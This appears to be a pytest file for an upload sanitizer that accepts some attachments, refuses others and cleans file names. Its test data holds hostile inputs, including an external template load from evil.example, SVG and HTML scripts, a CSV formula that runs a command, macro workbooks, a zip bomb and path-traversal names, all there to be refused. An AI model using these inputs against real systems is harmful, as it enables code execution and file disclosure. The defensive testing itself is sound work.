"""Which files may be attached: by content and by name at once."""

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from community import attachments
from community.attachments import CannotAttach, clean, tame_name
from community.characters import has_hidden_characters
from tests.community.attached import DOCUMENT, PDF, WORKBOOK, picture, zipped

LOADS = b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t" \
TargetMode="External"/></Relationships>'
LINKS = b'<Relationships><Relationship Type="http://x/relationships/hyperlink" Target="http://a.example" \
TargetMode="External"/></Relationships>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
GOOD = {
    "Syllabus.pdf": (PDF, attachments.PDF, "Syllabus.pdf"),
    "room.JPG": (picture("JPEG"), attachments.PNG, "room.png"),
    "room.webp": (picture("WEBP"), attachments.PNG, "room.png"),
    "minutes.docx": (zipped(DOCUMENT), attachments.DOCX, "minutes.docx"),
    "linked.docx": (
        zipped(DOCUMENT | {"word/_rels/document.xml.rels": LINKS}),
        attachments.DOCX,
        "linked.docx",
    ),
    "figures.xlsx": (zipped(WORKBOOK), attachments.XLSX, "figures.xlsx"),
}
BAD = {
    "HTML named PDF": ("report.pdf", HTML),
    "SVG named PDF": ("report.pdf", SVG),
    "SVG named PNG": ("logo.png", SVG),
    "SVG": ("logo.svg", SVG),
    "HTML": ("page.html", HTML),
    "CSV": ("figures.csv", b"=cmd|' /C calc'!A0,1\n"),
    "a program": ("setup.exe", b"MZ"),
    "no ending": ("syllabus", PDF),
    "two endings": ("syllabus.pdf.exe", PDF),
    "a PDF named PNG": ("page.png", PDF),
    "a picture named PDF": ("page.pdf", picture()),
    "a PDF with something before it": ("page.pdf", b"<script>" + PDF),
    "half a PDF": ("page.pdf", b"%PDF-1.7\nsome"),
    "half a picture": ("page.png", picture()[:40]),
    "nothing": ("page.pdf", b""),
    "a zip named DOCX": ("a.docx", zipped({"hello.txt": b"hello"})),
    "XLSX named DOCX": ("a.docx", zipped(WORKBOOK)),
    "half a DOCX": ("a.docx", zipped(DOCUMENT)[:90]),
    "a macro workbook": ("a.xlsm", zipped(WORKBOOK | {"xl/vbaProject.bin": b"x"})),
    "a macro workbook named XLSX": ("a.xlsx", zipped(WORKBOOK | {"xl/vbaProject.bin": b"x"})),
    "a workbook that says macroEnabled": (
        "a.xlsx",
        zipped(WORKBOOK | {"[Content_Types].xml": b'<Types><Override ContentType="x.sheet.macroEnabled.main+xml"/>'}),
    ),
    "a document with an embedded program": ("a.docx", zipped(DOCUMENT | {"word/embeddings/oleObject1.bin": b"x"})),
    "a workbook with links to others": ("a.xlsx", zipped(WORKBOOK | {"xl/externalLinks/externalLink1.xml": b"x"})),
    "a document that loads its template": ("a.docx", zipped(DOCUMENT | {"word/_rels/settings.xml.rels": LOADS})),
    "a document of before 2007": ("a.doc", b"\xd0\xcf\x11\xe0"),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_is_on_the_list_is_kept(name: str) -> None:
    content, kind, kept_name = GOOD[name]
    kept = clean(io.BytesIO(content), name)
    assert (kept.content_type, kept.name) == (kind, kept_name)
    assert (kept.content == content) == (kind != attachments.PNG)


@pytest.mark.parametrize("what", BAD)
def test_everything_else_is_refused_with_words(what: str) -> None:
    name, content = BAD[what]
    with pytest.raises(CannotAttach, match=r"\w{3}.*\."):
        clean(io.BytesIO(content), name)


def test_a_picture_is_drawn_anew_without_what_was_hidden_in_it() -> None:
    content = io.BytesIO()
    hidden = Image.Exif()
    hidden[0x010E] = "a secret place"
    Image.new("RGB", (30, 20)).save(content, "JPEG", exif=hidden)
    content.write(b"PK\x03\x04 and a tail")
    content.seek(0)
    kept = clean(content, "room.jpg").content
    assert kept.startswith(b"\x89PNG") and b"a secret place" not in kept and b"and a tail" not in kept


def test_what_is_too_large_is_refused_and_not_read_to_its_end() -> None:
    class Endless(io.BytesIO):
        def read(self, size: int | None = -1, /) -> bytes:
            assert size == attachments.MAX_BYTES + 1
            return b"%PDF-" + b"x" * (size - 5)

    with pytest.raises(CannotAttach, match="larger than 10 MB"):
        clean(Endless(), "a.pdf")


def test_a_document_that_unfolds_without_end_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in DOCUMENT.items():
            file.writestr(name, content)
        for number in range(21):
            file.writestr(f"word/media/{number}.bin", bytes(10 * 1024 * 1024))
    assert len(out.getvalue()) < 1024 * 1024
    with pytest.raises(CannotAttach, match="too large inside"):
        clean(io.BytesIO(out.getvalue()), "a.docx")
    crowd = DOCUMENT | {f"word/{number}.xml": b"" for number in range(attachments.MAX_ENTRIES)}
    with pytest.raises(CannotAttach, match="too large inside"):
        clean(io.BytesIO(zipped(crowd)), "a.docx")


@pytest.mark.parametrize(
    ("name", "tamed"),
    [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\a.pdf", "a.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
        ("pdf\u202egpj.pdf", "pdfgpj.pdf"),
        ('a"; filename="b.html', "a filename= b.pdf"),
        (".pdf", "evidence.pdf"),
        ("....", "evidence.pdf"),
        ("ß" * 300 + ".pdf", "ß" * 100 + ".pdf"),
        ("Résumé 2026.pdf", "Résumé 2026.pdf"),
    ],
)
def test_names_are_tamed(name: str, tamed: str) -> None:
    assert tame_name(name, ".pdf") == tamed


@given(st.text(max_size=300))
def test_no_name_leads_anywhere(name: str) -> None:
    tamed = tame_name(name, ".pdf")
    assert tamed.endswith(".pdf") and len(tamed) <= 104
    assert not set('/\\"\r\n\x00') & set(tamed)
    assert not tamed.startswith(".")
    assert not has_hidden_characters(tamed)
